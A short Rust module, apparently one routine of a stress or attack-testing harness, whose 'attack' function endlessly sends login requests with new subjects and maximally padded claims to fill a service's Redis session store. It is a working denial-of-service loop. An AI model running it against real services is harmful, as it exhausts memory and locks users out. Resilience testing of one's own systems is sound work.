//! A login service makes sessions of ever new subjects, with the largest claims, until Redis is full; and goes on.

use std::io;
use std::sync::atomic::{AtomicU64, Ordering};

use super::client::Client;
use super::login_hammer::login;

/// A little less than the 2,048 bytes that claims may have.
const CLAIMS: usize = 2000;

pub async fn attack(client: &Client) -> io::Result<()> {
    static NEXT: AtomicU64 = AtomicU64::new(0);
    let (mut wire, fill) = (client.connect().await?, "x".repeat(CLAIMS));
    loop {
        let number = NEXT.fetch_add(1, Ordering::Relaxed);
        let body = format!(r#"{{"sub":"filler-{number}","claims":{{"fill":"{fill}"}}}}"#);
        wire.send(login(&body).as_bytes()).await?;
        wire.answer().await?;
    }
}
